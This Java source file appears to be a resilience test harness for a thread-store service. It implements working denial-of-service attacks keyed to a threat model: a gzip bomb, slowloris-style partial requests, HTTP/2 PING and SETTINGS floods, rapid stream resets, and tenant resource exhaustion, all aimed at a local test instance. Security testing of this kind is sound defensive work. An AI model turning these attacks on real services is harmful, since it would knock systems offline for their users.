package io.threadstore.attack;

import io.threadstore.testsupport.Items;
import io.threadstore.testsupport.RawHttp2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.zip.GZIPOutputStream;

/** The attacks, each with the number of its row in the threat model of docs/security.md. */
final class Attacks {

    private static final String GRPC = "/codex.thread_store.v1.ThreadStore/";
    private static final int MIB = 1024 * 1024;

    private final Victim victim;

    private final byte[] bomb;
    private final byte[] blankLines;

    private Attacks(Victim victim) throws IOException {
        this.victim = victim;
        this.bomb = gzip(new byte[MIB], 1000L * MIB);
        this.blankLines = gzip("\n".repeat(MIB).getBytes(StandardCharsets.US_ASCII), 210L * MIB);
    }

    /** A named attack. */
    record Attack(String name, Start start) {}

    /** Starts an attack that ends at a time of {@link System#nanoTime}, or when it is closed. */
    interface Start {
        Running start(long end) throws Exception;
    }

    /** One round of an attack's client. */
    private interface Round {
        void run(Running running) throws Exception;
    }

    static List<Attack> all(Victim victim) throws IOException {
        var attacks = new Attacks(victim);
        return List.of(
                attacks.attack("C1 gRPC gzip bomb, no token", 4, attacks::grpcBomb),
                attacks.attack("H1 gRPC messages without end, no token", 8, attacks::endlessGrpc),
                attacks.attack("H1 gRPC message in tiny frames, no token", 2, attacks::tinyFrames),
                attacks.attack("H2 gRPC streams with headers only, no token", 5, attacks::headersOnly),
                attacks.attack("H3 near-match searches that are abandoned", 25, attacks::searches),
                attacks.attack("H4 matrix parameters and slow bodies", 30, attacks::matrixParameters),
                attacks.attack("H5 one token in many spellings", 4, attacks::tokenSpellings),
                attacks.attack("H6 announced bodies that never arrive, no token", 70, attacks::announcedBodies),
                attacks.attack("H6 the same with a token", 70, attacks::announcedBodiesWithToken),
                attacks.attack("M1 tokens with unknown keys", 8, attacks::unknownKeys),
                attacks.attack("M2 import of packed blank lines", 4, attacks::blankLines),
                attacks.attack("M3 one tenant takes all it can: imports", 20, attacks::greedyImports),
                attacks.attack("M3 one tenant takes all it can: histories", 60, attacks::greedyHistories),
                attacks.attack("M3 one tenant takes all it can: appends", 40, attacks::greedyAppends),
                attacks.attack("M4 half-sent headers", 100, attacks::halfHeaders),
                attacks.attack("M6 PING flood", 2, attacks::pings),
                attacks.attack("M6 SETTINGS flood", 2, attacks::settings),
                attacks.attack("X1 pipelined requests, answers not read", 4, attacks::unreadAnswers),
                attacks.attack("X2 lists over HTTP/2 without a window", 8, attacks::listsWithoutWindow),
                attacks.attack("X3 requests over HTTP/2 that are reset at once", 4, attacks::resets),
                attacks.attack("K2 histories of long items", 8, attacks::longItems),
                attacks.attack("K3 pages of 8 MiB that are not read", 40, attacks::unreadPages),
                attacks.attack("K7 packed imports of long items", 8, attacks::longImports));
    }

    private Attack attack(String name, int clients, Round round) {
        return new Attack(name, end -> new Running(end, clients, round));
    }

    /** An attack in progress: clients that repeat their rounds. */
    static final class Running implements AutoCloseable {

        private final long end;
        private final List<Thread> threads = new ArrayList<>();
        private final AtomicLong bytes = new AtomicLong();
        private final AtomicLong rounds = new AtomicLong();
        private volatile boolean isClosed;

        Running(long end, int clients, Round round) {
            this.end = end;
            for (var i = 0; i < clients; i++) {
                var thread = new Thread(() -> repeat(round), "attack-" + i);
                thread.setDaemon(true);
                thread.start();
                threads.add(thread);
            }
        }

        private void repeat(Round round) {
            while (isOn()) {
                try {
                    round.run(this);
                } catch (IOException e) {
                    // the service has ended the connection
                } catch (InterruptedException e) {
                    return;
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
                rounds.incrementAndGet();
                try {
                    TimeUnit.MILLISECONDS.sleep(10);
                } catch (InterruptedException e) {
                    return;
                }
            }
        }

        boolean isOn() {
            return !isClosed && System.nanoTime() - end < 0;
        }

        void sent(long count) {
            bytes.addAndGet(count);
        }

        String sent() {
            return "%d rounds, %.1f MB".formatted(rounds.get(), bytes.get() / 1e6);
        }

        @Override
        public void close() {
            isClosed = true;
            threads.forEach(Thread::interrupt);
            join(threads, Duration.ofSeconds(5));
        }
    }

    /** Waits for threads to end, each for some time. */
    static void join(List<Thread> threads, Duration atMost) {
        for (var thread : threads) {
            try {
                thread.join(atMost.toMillis());
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return;
            }
        }
    }

    // --- without a token ---------------------------------------------------------------------------------------------

    private static byte[] grpcHeaders(String method, String... more) {
        var block = new ByteArrayOutputStream();
        block.writeBytes(RawHttp2.block(
                ":method",
                "POST",
                ":scheme",
                "http",
                ":path",
                GRPC + method,
                ":authority",
                "localhost",
                "content-type",
                "application/grpc",
                "te",
                "trailers"));
        block.writeBytes(RawHttp2.block(more));
        return block.toByteArray();
    }

    private static byte[] gzip(byte[] unit, long length) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var packer = new GZIPOutputStream(out)) {
            for (var written = 0L; written < length; written += unit.length) {
                packer.write(unit);
            }
        }
        return out.toByteArray();
    }

    private void grpcBomb(Running running) throws IOException {
        var message = ByteBuffer.allocate(5 + bomb.length)
                .put((byte) 1)
                .putInt(bomb.length)
                .put(bomb)
                .array();
        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
            connection.send(
                    RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, grpcHeaders("AppendItems", "grpc-encoding", "gzip"));
            sendData(connection, 1, message, 16_000, running);
            connection.response(1);
        }
    }

    private static void sendData(RawHttp2 connection, int stream, byte[] bytes, int frame, Running running)
            throws IOException {
        // no more than the first window of the stream: a server that has answered gives no more
        var total = Math.min(bytes.length, 60_000);
        for (var at = 0; at < total; at += frame) {
            var part = java.util.Arrays.copyOfRange(bytes, at, Math.min(total, at + frame));
            connection.send(RawHttp2.DATA, 0, stream, part);
            running.sent(part.length);
        }
    }

    private void endlessGrpc(Running running) throws Exception {
        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
            for (var stream = 1; stream < 100 && running.isOn(); stream += 2) {
                connection.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, grpcHeaders("AppendItems"));
                var message = ByteBuffer.allocate(60_000)
                        .put((byte) 0)
                        .putInt(2 * MIB)
                        .array();
                sendData(connection, stream, message, 16_000, running);
            }
            TimeUnit.SECONDS.sleep(1);
        }
    }

    private void tinyFrames(Running running) throws IOException {
        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
            connection.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, grpcHeaders("AppendItems"));
            var message =
                    ByteBuffer.allocate(60_000).put((byte) 0).putInt(12 * MIB).array();
            sendData(connection, 1, message, 10, running);
        }
    }

    private void headersOnly(Running running) throws Exception {
        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
            for (var stream = 1; stream < 200 && running.isOn(); stream += 2) {
                connection.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, grpcHeaders("LoadHistory"));
            }
            TimeUnit.SECONDS.sleep(2);
        }
    }

    private void matrixParameters(Running running) throws Exception {
        hold(running, "POST /v1;x=y/threads HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n{");
    }

    private void announcedBodies(Running running) throws Exception {
        hold(running, "POST /v1/threads HTTP/1.1\r\nHost: a\r\nContent-Length: 64000\r\n\r\n");
    }

    private void announcedBodiesWithToken(Running running) throws Exception {
        hold(
                running,
                "POST /v1/threads HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nAuthorization: Bearer "
                        + Victim.token("slow") + "\r\nContent-Length: 64000\r\n\r\n");
    }

    private void halfHeaders(Running running) throws Exception {
        hold(running, "GET /v1/threads HTTP/1.1\r\nHost: a\r\nX-Slow: ");
    }

    /** Sends the beginning of a request on ten connections, and then nothing. */
    private void hold(Running running, String beginning) throws Exception {
        var sockets = new ArrayList<Socket>();
        try {
            for (var i = 0; i < 10 && running.isOn(); i++) {
                var socket = new Socket(Victim.HOST, victim.port());
                sockets.add(socket);
                socket.getOutputStream().write(beginning.getBytes(StandardCharsets.US_ASCII));
                running.sent(beginning.length());
            }
            TimeUnit.SECONDS.sleep(3);
        } finally {
            for (var socket : sockets) {
                socket.close();
            }
        }
    }

    private void unknownKeys(Running running) throws Exception {
        var header = java.util.Base64.getUrlEncoder()
                .withoutPadding()
                .encodeToString(("{\"alg\":\"RS256\",\"kid\":\"" + UUID.randomUUID() + "\"}")
                        .getBytes(StandardCharsets.US_ASCII));
        var token = Victim.token("valid");
        get(running, "/v1/threads", header + token.substring(token.indexOf('.')), false);
    }

    private void pings(Running running) throws IOException {
        flood(running, RawHttp2.frame(RawHttp2.PING, 0, 0, new byte[8]));
    }

    private void settings(Running running) throws IOException {
        flood(running, RawHttp2.frame(RawHttp2.SETTINGS, 0, 0));
    }

    private void flood(Running running, byte[] frame) throws IOException {
        var many = new ByteArrayOutputStream();
        for (var i = 0; i < 500; i++) {
            many.writeBytes(frame);
        }
        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
            while (running.isOn()) {
                connection.sendBytes(many.toByteArray());
                running.sent(many.size());
            }
        }
    }

    private void unreadAnswers(Running running) throws IOException {
        var many = "GET /v1/threads HTTP/1.1\r\nHost: a\r\n\r\n".repeat(1000).getBytes(StandardCharsets.US_ASCII);
        try (var socket = new Socket(Victim.HOST, victim.port())) {
            var closer = new Thread(() -> closeAtEnd(running, socket), "closer");
            closer.setDaemon(true);
            closer.start();
            while (running.isOn()) {
                socket.getOutputStream().write(many);
                running.sent(many.length);
            }
        }
    }

    private static void closeAtEnd(Running running, Socket socket) {
        try {
            while (running.isOn() && !socket.isClosed()) {
                TimeUnit.MILLISECONDS.sleep(100);
            }
            socket.close();
        } catch (IOException | InterruptedException e) {
            // it is closed
        }
    }

    // --- with a token of another tenant ------------------------------------------------------------------------------

    private final HttpClient client = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5))
            .build();

    private void get(Running running, String path, String token, boolean isAbandoned) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(victim.url(path)))
                .header("Authorization", "Bearer " + token)
                .timeout(isAbandoned ? Duration.ofMillis(300) : Duration.ofSeconds(10))
                .build();
        client.send(request, HttpResponse.BodyHandlers.discarding());
        running.sent(path.length() + token.length());
    }

    private void searches(Running running) throws Exception {
        get(running, "/v1/threads?search=" + "a".repeat(190) + "b", Victim.token("valid"), true);
    }

    private void tokenSpellings(Running running) throws Exception {
        var token = Victim.token("spelling");
        var padding = " ".repeat((int) (System.nanoTime() % 20_000));
        try (var socket = new Socket(Victim.HOST, victim.port())) {
            var text = "GET /v1/threads?limit=1 HTTP/1.1\r\nHost: a\r\nConnection: close\r\nAuthorization: bEaReR "
                    + padding + token + "\r\n\r\n";
            socket.getOutputStream().write(text.getBytes(StandardCharsets.US_ASCII));
            running.sent(text.length());
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        }
    }

    private void blankLines(Running running) throws Exception {
        importPacked(running, blankLines, UUID.randomUUID());
    }

    private void importPacked(Running running, byte[] body, UUID id) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(victim.url("/v1/threads/" + id + "/rollout")))
                .header("Authorization", "Bearer " + Victim.token("greedy"))
                .header("Content-Type", "application/x-ndjson")
                .header("Content-Encoding", "gzip")
                .timeout(Duration.ofSeconds(30))
                .PUT(HttpRequest.BodyPublishers.ofByteArray(body))
                .build();
        client.send(request, HttpResponse.BodyHandlers.discarding());
        running.sent(body.length);
    }

    private void listsWithoutWindow(Running running) throws Exception {
        longList();
        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
            connection.withoutWindow();
            for (var stream = 1; stream < 200 && running.isOn(); stream += 2) {
                list(connection, stream);
            }
            TimeUnit.SECONDS.sleep(3);
        }
    }

    private void resets(Running running) throws Exception {
        longList();
        try (var connection = new RawHttp2(Victim.HOST, victim.port())) {
            for (var stream = 1; stream < 1000 && running.isOn(); stream += 2) {
                list(connection, stream);
                connection.send(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                running.sent(500);
            }
        }
    }

    private static void list(RawHttp2 connection, int stream) throws IOException {
        connection.get(
                stream,
                "/v1/threads?limit=100",
                ":authority",
                "localhost",
                "authorization",
                "Bearer " + Victim.token("greedy"));
    }

    private volatile boolean hasLongList;

    /** A list of the greedy tenant of some 200 KB. */
    private synchronized void longList() throws Exception {
        for (var i = 0; !hasLongList && i < 100; i++) {
            var id = UUID.randomUUID();
            var file = sessionMeta(id) + Items.userMessage("q".repeat(1900)) + "\n";
            var request = HttpRequest.newBuilder(URI.create(victim.url("/v1/threads/" + id + "/rollout")))
                    .header("Authorization", "Bearer " + Victim.token("greedy"))
                    .header("Content-Type", "application/x-ndjson")
                    .PUT(HttpRequest.BodyPublishers.ofString(file))
                    .build();
            if (client.send(request, HttpResponse.BodyHandlers.discarding()).statusCode() != 201) {
                throw new IOException("the thread can't be imported");
            }
        }
        hasLongList = true;
    }

    private static String sessionMeta(UUID id) {
        return "{\"timestamp\":\"2026-11-30T00:00:00.000Z\",\"type\":\"session_meta\",\"payload\":{\"id\":\"" + id
                + "\",\"timestamp\":\"2026-11-30T00:00:00.000Z\",\"cwd\":\"/x\",\"originator\":\"x\",\"cli_version\":\"1\","
                + "\"source\":\"cli\"}}\n";
    }

    private void longImports(Running running) throws Exception {
        var id = UUID.randomUUID();
        var file = new ByteArrayOutputStream();
        try (var packer = new GZIPOutputStream(file)) {
            packer.write(sessionMeta(id).getBytes(StandardCharsets.US_ASCII));
            for (var i = 0; i < 4; i++) {
                packer.write((Items.userMessage("x".repeat(15 * MIB)) + "\n").getBytes(StandardCharsets.US_ASCII));
            }
        }
        importPacked(running, file.toByteArray(), id);
    }

    private void greedyImports(Running running) throws Exception {
        slowly(
                running,
                "PUT /v1/threads/" + UUID.randomUUID()
                        + "/rollout HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n"
                        + "Content-Type: application/x-ndjson\r\nAuthorization: Bearer " + Victim.token("greedy")
                        + "\r\n\r\n",
                "3e8\r\n" + " ".repeat(1000) + "\r\n");
    }

    private void greedyAppends(Running running) throws Exception {
        slowly(
                running,
                "POST /v1/threads/" + UUID.randomUUID() + "/items HTTP/1.1\r\nHost: a\r\nContent-Length: 60000000\r\n"
                        + "Content-Type: application/json\r\nAuthorization: Bearer " + Victim.token("greedy")
                        + "\r\n\r\n",
                " ".repeat(100_000));
    }

    private void slowly(Running running, String head, String part) throws Exception {
        try (var socket = new Socket(Victim.HOST, victim.port())) {
            var out = socket.getOutputStream();
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            while (running.isOn()) {
                out.write(part.getBytes(StandardCharsets.US_ASCII));
                running.sent(part.length());
                TimeUnit.MILLISECONDS.sleep(200);
            }
        }
    }

    private volatile UUID longThread;

    /** A thread of the greedy tenant with ten items of 4 MiB. */
    private synchronized UUID longThread() throws Exception {
        if (longThread == null) {
            var id = UUID.randomUUID();
            var file = new ByteArrayOutputStream();
            file.writeBytes(sessionMeta(id).getBytes(StandardCharsets.US_ASCII));
            for (var i = 0; i < 10; i++) {
                file.writeBytes((Items.userMessage("x".repeat(4 * MIB)) + "\n").getBytes(StandardCharsets.US_ASCII));
            }
            var request = HttpRequest.newBuilder(URI.create(victim.url("/v1/threads/" + id + "/rollout")))
                    .header("Authorization", "Bearer " + Victim.token("greedy"))
                    .header("Content-Type", "application/x-ndjson")
                    .PUT(HttpRequest.BodyPublishers.ofByteArray(file.toByteArray()))
                    .build();
            if (client.send(request, HttpResponse.BodyHandlers.discarding()).statusCode() != 201) {
                throw new IOException("the thread can't be imported");
            }
            longThread = id;
        }
        return longThread;
    }

    private void greedyHistories(Running running) throws Exception {
        unread(running, "/v1/threads/" + longThread() + "/history");
    }

    private void unreadPages(Running running) throws Exception {
        unread(running, "/v1/threads/" + longThread() + "/items");
    }

    private void unread(Running running, String path) throws Exception {
        try (var socket = new Socket()) {
            socket.setReceiveBufferSize(4096);
            socket.connect(new java.net.InetSocketAddress(Victim.HOST, victim.port()));
            var text = "GET " + path + " HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + Victim.token("greedy")
                    + "\r\n\r\n";
            socket.getOutputStream().write(text.getBytes(StandardCharsets.US_ASCII));
            running.sent(text.length());
            TimeUnit.SECONDS.sleep(3);
        }
    }

    private void longItems(Running running) throws Exception {
        get(running, "/v1/threads/" + longThread() + "/history", Victim.token("greedy"), false);
    }
}
